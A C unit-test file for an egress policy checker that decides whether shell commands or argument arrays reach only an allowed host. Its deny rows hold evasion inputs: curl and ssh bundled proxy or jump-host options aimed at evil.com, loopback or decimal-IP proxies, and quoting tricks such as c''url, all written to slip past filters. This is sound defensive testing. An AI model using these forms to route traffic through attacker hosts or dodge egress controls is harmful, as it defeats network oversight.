/* SPDX-License-Identifier: Apache-2.0 */
/*
 * tests/kernel/test_rev62_hostprog.c - review 22 "hosts" (docs/security.md
 * "How a host is read"):
 *   - H1: a bundle of short options holding a host option ("-sx", "-4x",
 *     "-AJ", "-sSfx", curl's "-s:x") was read only when curl or ssh stood
 *     where a command's name stands; it is now read whenever the leaf
 *     (earlier text), its array or another leaf of the call names curl,
 *     ssh, scp or sftp as a token ("\\curl", "(curl", "timeout 10 curl",
 *     "curl.exe", "GIT_SSH_COMMAND='ssh -AJ ..'", ["env", "curl", ..],
 *     {"command": "curl", "args": [..]});
 *   - H5: a leaf starting with '{' or '[' and ending with '}' or ']' (a
 *     brace group, a test) got no shell reading; only JSON text (a
 *     strict parse of the whole leaf) is spared it now;
 *   - M2: JSON in a single-quoted word ("curl -d '{"name":"report.pdf"}'")
 *     is read as JSON held in a string, not run into one word by quote
 *     removal.
 * Each row stands beside an allowed url.
 */
#include <criterion/criterion.h>

#include "kernel/kernelutil.h"

#define NOW 1710000300u

Test(rev62_hostprog, a_bundle_is_read_wherever_curl_or_ssh_is_named)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"\\\\curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"(curl -sx 127.0.0.1:18222 "
         "https://api.example.com/)\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"echo $(curl -sx 127.0.0.1:18222 "
         "https://api.example.com/)\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"set -e\\ncurl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"timeout 10 curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"sudo -u bob curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"env -i curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"nice -n 5 curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"bash -c 'curl -sx 127.0.0.1:18222 "
         "https://api.example.com/'\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"if curl -sSfx 127.0.0.1:18222 "
         "https://api.example.com/; then echo ok; fi\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"! curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"{ curl -sx 127.0.0.1:18222 "
         "https://api.example.com/; }\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl.exe -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"echo a|curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"true&&curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"xargs -n1 curl -sx 127.0.0.1:18222 < "
         "urls.txt\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"watch curl -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"GIT_SSH_COMMAND='ssh -AJ evil.com' git "
         "fetch\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"CURL -sx 2130706433 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -s:x 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"C:\\\\tools\\\\curl.exe -sx "
         "127.0.0.1:18222 https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"c''url -sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"args\":[\"curl\",\"-sx\",\"2130706433\",\"https:/"
         "/api.example.com/\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/"
         "\",\"args\":[\"env\",\"curl\",\"-sx\",\"2130706433\",\"https://api.example.com/\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/"
         "\",\"args\":[\"timeout\",\"5\",\"curl\",\"-sx\",\"2130706433\",\"https://api.example.com/"
         "\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"args\":[\"/usr/bin/"
         "env\",\"-i\",\"curl\",\"-4x\",\"2130706433\",\"https://api.example.com/\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/"
         "\",\"args\":[\"sudo\",\"ssh\",\"-AJ\",\"2130706433\",\"host\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/"
         "\",\"args\":[\"curl\",[\"-sx\",\"2130706433\"],\"https://api.example.com/\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/"
         "\",\"command\":\"curl\",\"args\":[\"-sx\",\"2130706433\",\"https://api.example.com/\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/"
         "\",\"command\":\"ssh\",\"args\":[\"-AJ\",\"2130706433\",\"host\"]}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"command\":\"curl\",\"cmd\":\"-sx 127.0.0.1:18222 "
         "https://api.example.com/\"}",
         0},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev62_hostprog, other_programs_bundles_stay_allowed)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"bash -ex deploy.sh\"}", 1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"git clean -fdx\"}", 1},
        {KT_DX("api.example.com"), "{\"url\":\"https://api.example.com/\",\"cmd\":\"ls -lax\"}", 1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -s4 https://api.example.com/\"}", 1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -#O https://api.example.com/\"}", 1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -sSfLo file.tar.gz "
         "https://api.example.com/\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"ssh -vJ api.example.com host\"}", 1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -Lx api.example.com:3128 "
         "https://api.example.com/\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -sx api.example.com:3128 "
         "https://api.example.com/\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"scp -rp src/ "
         "user@api.example.com:/srv/\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"set -o pipefail; bash -ex deploy.sh\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"args\":[\"ls\",\"-lax\",\"src\"]}", 1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"args\":[\"git\",\"clean\",\"-fdx\"]}", 1},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev62_hostprog, a_brace_group_or_test_gets_the_shell_reading)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -x '127.0.0.1:18222' "
         "https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"{ curl -x '127.0.0.1:18222' "
         "https://api.example.com/; }\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"{ curl -x \\\"127.0.0.1:18222\\\" "
         "https://api.example.com/; }\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"{ curl --proxy '2130706433' "
         "https://api.example.com/; }\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"{ curl -x ev'il.com:3128' "
         "https://api.example.com/; }\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"{ HTTPS_PROXY='127.0.0.1:18222' curl "
         "https://api.example.com/; }\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"[ -d /tmp ] && curl -x '127.0.0.1:18222' "
         "https://api.example.com/ || [ 1 ]\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"[[ 1 ]] && curl -x '127.0.0.1':18222 "
         "https://api.example.com/ # ]\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"{ curl -x \\\\\\n 127.0.0.1:18222 "
         "https://api.example.com/; }\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"{ ssh -o 'ProxyJump evil.com' host; }\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"[1] // ; curl -x '127.0.0.1:18222' "
         "https://api.example.com/ // ]\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"[ 1,\\n\\\"curl\\\" , "
         "\\\"-x127.0.0.1:18222\\\" , \\\"https://api.example.com/\\\" ]\"}",
         0},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev62_hostprog, json_text_and_shell_groups_that_name_no_host_stay_allowed)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"{ echo a; echo b; } > out.txt\"}", 1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"[ -f a.txt ] && cat a.txt\"}", 1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"jq '.items[] | {name: .name}' "
         "data.json\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/"
         "\",\"cmd\":\"{\\\"name\\\":\\\"report.pdf\\\",\\\"size\\\":1}\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/"
         "\",\"cmd\":\"{\\\"t\\\":\\\"12:30:45\\\",\\\"v\\\":\\\"a.example:443\\\",\\\"n\\\":\\\"-"
         "x is an option\\\"}\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"[\\\"a.txt\\\", \\\"b.txt\\\"]\"}", 1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/"
         "\",\"body\":\"{\\\"name\\\":\\\"report.pdf\\\",\\\"size\\\":1}\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev62_hostprog, json_in_a_quoted_word_is_read_as_json)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -d '{\\\"name\\\": "
         "\\\"report.pdf\\\", \\\"size\\\": 1}' https://api.example.com/\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -d "
         "'{\\\"name\\\":\\\"report.pdf\\\",\\\"size\\\":1}' https://api.example.com/\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -sS -X POST -H 'Content-Type: "
         "application/json' -d '{\\\"file\\\":\\\"notes.txt\\\",\\\"ok\\\":true}' "
         "https://api.example.com/\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"echo "
         "'{\\\"name\\\":\\\"report.pdf\\\",\\\"size\\\":1}' | jq .\"}",
         1},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl "
         "--data='[\\\"a.txt\\\",\\\"b.txt\\\"]' https://api.example.com/\"}",
         1},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}

Test(rev62_hostprog, a_host_in_quoted_json_or_beside_it_is_still_denied)
{
    static const kt_row rows[] = {
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -d "
         "'{\\\"u\\\":\\\"http://evil.com/\\\"}' https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -d "
         "'{\\\"proxy\\\":\\\"evil.com:3128\\\"}' https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -d '{\\\"a\\\":\\\"b\\\"}' -x "
         "'127.0.0.1:18222' https://api.example.com/\"}",
         0},
        {KT_DX("api.example.com"),
         "{\"url\":\"https://api.example.com/\",\"cmd\":\"curl -x '{\\\"a\\\":1}' "
         "'127.0.0.1:18222' https://api.example.com/\"}",
         0},
    };

    kt_run_rows_at(NOW, rows, sizeof(rows) / sizeof(rows[0]));
}
